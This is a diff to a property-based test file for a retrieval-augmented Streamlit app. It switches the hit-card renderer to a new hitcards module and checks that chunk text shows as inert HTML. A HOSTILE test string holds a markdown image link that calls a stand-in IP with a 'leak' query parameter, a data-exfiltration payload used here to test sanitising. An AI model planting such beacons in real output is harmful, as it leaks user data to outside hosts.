@@ -19,7 +19,7 @@ from streamlit.testing.v1 import AppTest
 from rag_core.embeddings import create_embedder
 from rag_core.index.index import Index
 from rag_core.core.types import Chunk, ChunkingConfig, Document, Hit
-from ui import widgets
+from ui import hitcards, widgets
 
 #: a document line written to make a browser fetch something, in every way markdown allows
 HOSTILE = ("The capital of Kenya is Nairobi ![pixel](http://198.51.100.7/p.png?leak=kenya) "
@@ -58,7 +58,7 @@ def test_answer_is_one_inert_html_block_that_shows_the_text_exactly(text):
 @given(st.lists(st.sampled_from(MARKDOWN_BITS) | st.text(max_size=20), min_size=1, max_size=12).map("".join))
 def test_hit_card_shows_chunk_text_as_text(text):
     chunk = Chunk("notes/evil.md", "Evil ![s](http://h/s.png)", text, 0, len(text), "d")
-    markup = widgets.hit_card(Hit(chunk, 0.5, "cosine", 1))
+    markup = hitcards.card_html(Hit(chunk, 0.5, "cosine", 1))
     assert_inert_block(markup, '<div class="rag-hit"')
     assert not re.search(r"<(img|a|script|iframe)\b", markup)
     assert " ".join(text.replace("\r", "").split()) in " ".join(shown_text(markup).split())
